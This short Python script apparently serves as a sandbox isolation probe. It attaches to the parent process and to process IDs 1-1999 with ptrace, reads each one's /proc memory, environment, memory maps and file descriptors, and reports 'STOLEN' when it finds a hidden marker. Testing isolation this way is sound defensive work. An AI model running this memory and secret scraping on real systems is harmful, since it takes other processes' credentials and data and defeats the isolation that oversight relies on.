"""Attaches to other processes as a debugger, and reads their memory."""

ABOUT = {"needs_isolation": True}

import ctypes, os

libc = ctypes.CDLL(None)
for pid in [os.getppid(), *range(1, 2000)]:
    libc.ptrace(16, pid, 0, 0)
for pid in range(1, 2000):
    for name in ("mem", "environ", "maps", "fd"):
        try:
            data = open(f"/proc/{pid}/{name}", "rb").read(10**6)
            if pid > 2 and b"BEGIN HIDDEN" in data:
                print("STOLEN", pid, name)
        except Exception:
            pass
